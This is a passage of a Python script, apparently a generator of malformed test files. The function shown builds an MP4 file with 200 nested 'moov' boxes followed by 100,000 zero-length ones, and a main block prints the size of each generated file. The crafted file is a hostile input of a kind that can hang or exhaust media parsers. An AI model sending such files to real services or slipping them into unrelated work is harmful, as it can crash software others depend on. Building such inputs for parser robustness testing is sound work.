    inner = b""
    for _ in range(200):
        inner = struct.pack(">I4s", len(inner) + 8, b"moov") + inner
    return struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + inner + struct.pack(">I4s", 0, b"moov") * 100_000


if __name__ == "__main__":
    for _each, _make in FILES.items():
        print(f"{len(_make()):>10,}  {_each}")
